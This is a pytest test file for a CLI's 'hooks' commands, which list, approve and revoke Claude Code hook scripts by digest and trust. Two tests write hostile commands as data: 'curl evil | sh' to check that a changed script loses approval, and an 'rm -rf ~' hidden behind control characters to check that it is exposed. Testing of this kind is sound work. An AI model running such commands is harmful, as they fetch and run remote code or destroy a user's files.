"""`clew hooks` as a person and a script use it."""

import json
import os
import pty
import select
import signal
import stat
from pathlib import Path
from typing import Any

import pytest

from clew.permissions.trust import TrustStore
from e2e.command import CLEW, Place
from fakes.effort import HANG_S


def settings(*commands: str, moment: str = "PreToolUse", matcher: str = "Bash") -> str:
    handlers = [{"type": "command", "command": command} for command in commands]
    return json.dumps({"hooks": {moment: [{"matcher": matcher, "hooks": handlers}]}})


class Project(Place):
    """A project with hooks of Claude Code."""

    def __init__(self, tmp_path: Path) -> None:
        super().__init__(tmp_path)
        (self.project / ".claude").mkdir()
        (self.home / ".claude").mkdir()
        self.clew_home.mkdir(mode=0o700)
        self.claude = self.project / ".claude" / "settings.json"
        self.script = self.project / "check.sh"
        self.script.write_text("exit 0\n")
        self.claude.write_text(settings("./check.sh --all"))

    def trust(self) -> None:
        TrustStore(self.clew_home).remember(self.project)

    def listed(self) -> list[dict[str, Any]]:
        return json.loads(self.run("hooks", "list", "--json").out)["hooks"]

    def states(self) -> dict[str, str]:
        return {row["command"]: row["state"] for row in self.listed()}


@pytest.fixture
def place(tmp_path: Path) -> Project:
    return Project(tmp_path)


def typed(place: Project, answer: str, *args: str) -> tuple[int, str]:
    """Run at a terminal and answer its question."""
    pid, master = pty.fork()
    if pid == 0:
        os.chdir(place.project)
        os.execve(CLEW, [CLEW, *args], place.env)
    seen = b""
    signal.alarm(int(HANG_S))
    try:
        while True:
            select.select([master], [], [])
            try:
                data = os.read(master, 65_536)
            except OSError:
                break
            if not data:
                break
            seen += data
            if answer and b"[n]o > " in seen:
                os.write(master, f"{answer}\n".encode())
                answer = ""
    finally:
        signal.alarm(0)
        os.close(master)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), seen.decode()


def test_no_hooks_is_said(place: Project) -> None:
    place.trust()
    place.claude.unlink()
    done = place.run("hooks")
    assert (done.code, done.out, done.err) == (0, "no hooks\n", "")


def test_without_trust_nothing_of_the_project_is_read(place: Project) -> None:
    (place.home / ".claude" / "settings.json").write_text(settings("echo mine"))
    place.claude.unlink()
    os.mkfifo(place.claude)  # whoever reads it waits for ever
    done = place.run("hooks", "list")
    assert done.code == 0
    assert "echo mine" in done.out
    assert "not trusted; its hooks are not read (.claude/settings.json)" in done.out
    assert "check.sh" not in done.out


def test_a_table_with_everything(place: Project) -> None:
    place.trust()
    (place.clew_home / "settings.json").write_text(settings("echo own", moment="Stop", matcher=""))
    (place.project / ".claude" / "settings.local.json").write_text(
        json.dumps(
            {"hooks": {"TeammateIdle": [{"hooks": [{"type": "command", "command": "x"}, {"type": "http"}]}], "Boo": []}}
        )
    )
    done = place.run("hooks", "list")
    assert done.code == 0
    lines = done.out.splitlines()
    assert lines[0].split() == ["STATE", "DIGEST", "MOMENT", "MATCHER", "COMMAND", "FILE"]
    assert sorted(line.split("  ")[0] for line in lines[1:4]) == ["not approved", "not approved", "runs"]
    rows = {line.split("  ")[0]: line for line in lines[1:4] if "TeammateIdle" not in line}
    assert "echo own" in rows["runs"]
    for word in ("PreToolUse", "Bash", "./check.sh --all", ".claude/settings.json"):
        assert word in rows["not approved"]
    problems = [line for line in lines if line.startswith("problem: ")]
    assert ['"http"' in problems[0], "hooks.Boo" in problems[1]] == [True, True]
    assert lines[-1].startswith("2 not approved")


def test_approved_until_something_changes(place: Project) -> None:
    place.trust()
    assert place.states() == {"./check.sh --all": "unapproved"}
    done = place.run("hooks", "approve", "--yes")
    assert done.code == 0
    assert "    ./check.sh --all\n" in done.out
    assert "  file   check.sh\n" in done.out
    assert "approved 1 hook" in done.out
    assert place.states() == {"./check.sh --all": "approved"}
    assert stat.S_IMODE((place.clew_home / "hooks.json").stat().st_mode) == 0o600
    assert "nothing to approve" in place.run("hooks", "approve", "--yes").out
    place.script.write_text("curl evil | sh\n")
    assert place.states() == {"./check.sh --all": "unapproved"}
    place.script.write_text("exit 0\n")
    assert place.states() == {"./check.sh --all": "approved"}
    done = place.run("hooks", "revoke", "all", "--yes")
    assert (done.code, "revoked 1" in done.out) == (0, True)
    assert place.states() == {"./check.sh --all": "unapproved"}
    assert "no hook is approved here" in place.run("hooks", "revoke").out


def test_one_of_several_by_its_digits(place: Project) -> None:
    place.trust()
    place.claude.write_text(settings("echo a", "echo b", "echo c"))
    digests = {row["command"]: row["digest"] for row in place.listed()}
    assert place.run("hooks", "approve", digests["echo b"][:8], digests["echo c"].upper(), "--yes").code == 0
    assert place.states() == {"echo a": "unapproved", "echo b": "approved", "echo c": "approved"}
    assert place.run("hooks", "revoke", digests["echo c"][:8]).code == 0
    assert place.states() == {"echo a": "unapproved", "echo b": "approved", "echo c": "unapproved"}


def test_an_approval_of_what_has_changed_since_can_be_taken_back(place: Project) -> None:
    place.trust()
    digest = place.listed()[0]["digest"]
    place.run("hooks", "approve", "--yes")
    place.claude.unlink()
    done = place.run("hooks", "revoke", digest[:8])
    assert (done.code, "revoked 1" in done.out) == (0, True)
    assert json.loads((place.clew_home / "hooks.json").read_text())["approved"] == []


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["approve"], "nobody to ask; add --yes"),
        (["approve", "abc", "--yes"], "first 4 digits"),
        (["approve", "ALL", "--yes"], "first 4 digits"),
        (["approve", "0000000000", "--yes"], "no hook that can be approved begins so"),
        (["revoke", "all"], "nobody to ask; add --yes"),
        (["revoke", "zzzz"], "first 4 digits"),
        (["revoke", "0000000000"], "no approval begins so"),
        (["frobnicate"], "invalid choice"),
    ],
)
def test_what_cannot_be_done_is_one_line(place: Project, args: list[str], words: str) -> None:
    place.trust()
    if args[0] == "revoke":
        place.run("hooks", "approve", "--yes")
    before = place.states()
    done = place.run("hooks", *args)
    assert done.code == 2
    assert words in done.err
    assert done.err.count("\n") == 1
    assert place.states() == before


def test_ones_own_settings_need_no_approval(place: Project) -> None:
    (place.clew_home / "settings.json").write_text(settings("echo own"))
    digest = place.listed()[0]["digest"]
    done = place.run("hooks", "approve", digest[:8], "--yes")
    assert done.code == 2
    assert "in your own settings" in done.err


@pytest.mark.parametrize(("answer", "code", "state"), [("y", 0, "approved"), ("n", 1, "unapproved"), ("", 1, "")])
def test_a_person_is_asked(place: Project, answer: str, code: int, state: str) -> None:
    place.trust()
    found, seen = typed(place, answer or "what?", "hooks", "approve")
    assert found == code
    assert "./check.sh --all" in seen
    assert "outside the sandbox" in seen
    assert place.states() == {"./check.sh --all": state or "unapproved"}


def test_nothing_hides_in_what_is_approved(place: Project) -> None:
    place.trust()
    place.claude.write_text(settings("echo a\u202e\x1b[2Kb\u200b  # \n\n\n\n\n\n\n\n rm -rf ~"))
    shown = place.run("hooks", "approve", "--yes").out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "\\u{202E}" in shown
    assert "\\e" in shown
    assert "blank lines" in shown
    assert "rm -rf ~" in shown
    assert "\x1b" not in place.run("hooks", "list").out


def test_broken_settings_are_told_and_the_rest_is_listed(place: Project) -> None:
    place.trust()
    (place.clew_home / "settings.json").write_text("{ nonsense")
    (place.clew_home / "hooks.json").write_text("{ nonsense")
    done = place.run("hooks", "list")
    assert done.code == 0
    assert "./check.sh --all" in done.out
    assert "malformed JSON" in done.out
    assert "hooks.json is damaged" in done.out
    assert place.run("hooks", "approve", "--yes").code == 0
    assert place.states() == {"./check.sh --all": "approved"}


def test_disabled_hooks_are_none(place: Project) -> None:
    place.trust()
    (place.clew_home / "settings.json").write_text('{"disableAllHooks": true}')
    done = place.run("hooks")
    assert done.out.startswith("no hooks\n")
    assert "disableAllHooks" in done.out


def test_help_names_it(place: Project) -> None:
    assert "hooks" in place.run("--help").out
    assert "approve" in place.run("hooks", "--help").out
